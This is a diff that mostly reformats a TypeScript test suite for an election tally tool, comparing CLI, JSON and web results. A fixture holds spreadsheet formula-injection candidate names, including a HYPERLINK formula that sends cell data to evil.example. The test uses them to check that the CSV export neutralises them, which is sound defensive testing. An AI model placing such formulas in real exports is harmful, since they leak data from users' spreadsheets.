@@ -34,21 +34,46 @@ const SAMPLE_AFTER = new Date('2023-09-01T00:00:00Z');
 
 /** An election voting from 1 to 20 August 2023, with kalkayan as its officer. */
 function augustElection(key: string, name: string, candidates: ReturnType<typeof makeCandidate>[], voters: string[], noWinners = 1) {
-  return makeElection({ key, name, startDatetime: new Date('2023-08-01T00:00:00Z'), endDatetime: new Date('2023-08-20T00:00:00Z'), noWinners, voters, officers: ['kalkayan'], candidates });
+  return makeElection({
+    key,
+    name,
+    startDatetime: new Date('2023-08-01T00:00:00Z'),
+    endDatetime: new Date('2023-08-20T00:00:00Z'),
+    noWinners,
+    voters,
+    officers: ['kalkayan'],
+    candidates,
+  });
 }
 
 const IDS = ['ava', 'bea', 'cal', 'dex', 'eli', 'fox'];
-const steering = augustElection('steering', 'Steering 2026', IDS.map((id) => makeCandidate(id, `${id[0]!.toUpperCase()}${id.slice(1)} Example`)), Array.from({ length: 40 }, (_, i) => `voter${i}`), 3);
+const steering = augustElection(
+  'steering',
+  'Steering 2026',
+  IDS.map((id) => makeCandidate(id, `${id[0]!.toUpperCase()}${id.slice(1)} Example`)),
+  Array.from({ length: 40 }, (_, i) => `voter${i}`),
+  3,
+);
 
 // Candidate IDs come from file names (`candidate-<ID>.md`), which anyone opening a pull
 // request chooses: these would be formulas in a spreadsheet if written as they are.
 const HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"Vote")', '+cmd', '-2+3', '@SUM(1)', "'=quoted", 'plain'];
-const hostile = augustElection('hostile', 'Hostile names', HOSTILE_IDS.map((id) => makeCandidate(id, `Candidate ${id}`)), ['voter0', 'voter1', 'voter2']);
+const hostile = augustElection(
+  'hostile',
+  'Hostile names',
+  HOSTILE_IDS.map((id) => makeCandidate(id, `Candidate ${id}`)),
+  ['voter0', 'voter1', 'voter2'],
+);
 
 // More candidates than the results page shows tables for, and few ballots, so the
 // ranking is one large tie whose explanation is longer than the page shows.
 const WIDE_IDS = Array.from({ length: 120 }, (_, i) => `c${String(i).padStart(3, '0')}`);
-const wide = augustElection('wide', 'Many candidates', WIDE_IDS.map((id) => makeCandidate(id)), ['voter0', 'voter1', 'voter2']);
+const wide = augustElection(
+  'wide',
+  'Many candidates',
+  WIDE_IDS.map((id) => makeCandidate(id)),
+  ['voter0', 'voter1', 'voter2'],
+);
 
 /** A small deterministic generator, so a failure can be replayed. */
 function generator(seed: number): (n: number) => number {
@@ -109,7 +134,16 @@ for (const kind of dialects()) {
     async function tallyCli(args: string[]): Promise<{ code: number; out: string; err: string }> {
       let out = '';
       let err = '';
-      const io: CommandIO = { out: (s) => { out += s; }, err: (s) => { err += s; }, env: {}, cwd: work.path };
+      const io: CommandIO = {
+        out: (s) => {
+          out += s;
+        },
+        err: (s) => {
+          err += s;
+        },
+        env: {},
+        cwd: work.path,
+      };
       const code = await run(['tally', ...args], io);
       return { code, out, err };
     }
@@ -137,7 +171,10 @@ for (const kind of dialects()) {
     }
 
     function sameCount(cli: ResultJson, web: ResultJson): void {
-      assert.deepEqual(cli.candidates.map((c) => c.id), web.candidates.map((c) => c.id));
+      assert.deepEqual(
+        cli.candidates.map((c) => c.id),
+        web.candidates.map((c) => c.id),
+      );
       for (const field of ['seats', 'ballots', 'pairwise', 'strongest', 'ranking', 'winners', 'ties'] as const) {
         assert.deepEqual(cli[field], web[field], field);
       }
@@ -174,7 +211,8 @@ for (const kind of dialects()) {
         '2nd: delectus',
         '3rd: tie between e6n and Ribemont',
         '5th: Not CIVS',
-      ]) assert.ok(draft.includes(line), `draft has: ${line}\n${draft}`);
+      ])
+        assert.ok(draft.includes(line), `draft has: ${line}\n${draft}`);
     });
 
     test('forty voters, three seats, ties and no-opinion: the CLI count of the download equals the page and the JSON', async () => {
@@ -197,9 +235,14 @@ for (const kind of dialects()) {
       assert.deepEqual([...rows].sort(), [...expected].sort());
       // The page names the same winners, and the same tie if there is one.
       const label = (id: string) => `${id[0]!.toUpperCase()}${id.slice(1)} Example`;
-      const winners = [...(/<ol class="winners">([\s\S]*?)<\/ol>/.exec(page)?.[1] ?? '').matchAll(/<strong>([^<]+)<\/strong>/g)].map((m) => m[1]);
+      const winners = [...(/<ol class="winners">([\s\S]*?)<\/ol>/.exec(page)?.[1] ?? '').matchAll(/<strong>([^<]+)<\/strong>/g)].map(
+        (m) => m[1],
+      );
       assert.deepEqual(winners, web.winners.map(label));
-      for (const tie of web.ties) assert.ok(page.includes(`Tie for seat${tie.firstSeat === tie.lastSeat ? ` ${tie.firstSeat}` : `s ${tie.firstSeat} to ${tie.lastSeat}`}:`));
+      for (const tie of web.ties)
+        assert.ok(
+          page.includes(`Tie for seat${tie.firstSeat === tie.lastSeat ? ` ${tie.firstSeat}` : `s ${tie.firstSeat} to ${tie.lastSeat}`}:`),
+        );
       const placed = [...page.matchAll(/<th scope="row">([^<]+)<\/th>\s*<td><code>([a-z]+)<\/code>/g)].map((m) => m[2]);
       assert.deepEqual(placed, web.ranking.flat());
     });
@@ -216,7 +259,10 @@ for (const kind of dialects()) {
       const header = csv.split('\r\n')[0]!;
       for (const m of header.matchAll(/(?:^|,)("?)([^,]*)/g)) assert.doesNotMatch(m[2]!, /^[=+\-@\t\r]/, header);
       assert.ok(header.includes('"\'=HYPERLINK(""https://evil.example/?""&A1,""Vote"")"'), header);
-      assert.deepEqual(cli.candidates.map((c) => c.id), [...HOSTILE_IDS].sort());
+      assert.deepEqual(
+        cli.candidates.map((c) => c.id),
+        [...HOSTILE_IDS].sort(),
+      );
       sameCount(cli, web);
       assert.deepEqual(web.winners, ['=HYPERLINK("https://evil.example/?"&A1,"Vote")']);
     });
@@ -225,7 +271,8 @@ for (const kind of dialects()) {
       t.setNow(new Date('2023-08-05T00:00:00Z'));
       const random = generator(7);
       // Each ballot ranks about one candidate in five: most pairs are never compared.
-      for (const login of ['voter0', 'voter1', 'voter2']) await cast(login, 'wide', Object.fromEntries(WIDE_IDS.map((id) => [id, random(5) === 0 ? String(1 + random(10)) : ''])));
+      for (const login of ['voter0', 'voter1', 'voter2'])
+        await cast(login, 'wide', Object.fromEntries(WIDE_IDS.map((id) => [id, random(5) === 0 ? String(1 + random(10)) : ''])));
       t.setNow(new Date('2023-08-20T00:00:01Z'));
       const { cli, web, page } = await roundTrip('wide', 1);
       // The whole JSON, explanations included, but for the display names the CLI cannot
@@ -238,7 +285,10 @@ for (const kind of dialects()) {
       assert.match(page, /With 120 candidates the pairwise table \(120 × 120\) is too large for a page/);
       assert.doesNotMatch(page, /<table class="matrix"/);
       assert.equal((page.match(/<li><strong>/g) ?? []).length, 1000 + web.winners.length);
-      assert.ok(page.includes(`… and ${full.explanation.adjacent.length - 1000} more, in the results JSON`), 'the page says how many reasons it left out');
+      assert.ok(
+        page.includes(`… and ${full.explanation.adjacent.length - 1000} more, in the results JSON`),
+        'the page says how many reasons it left out',
+      );
     });
   });
 }
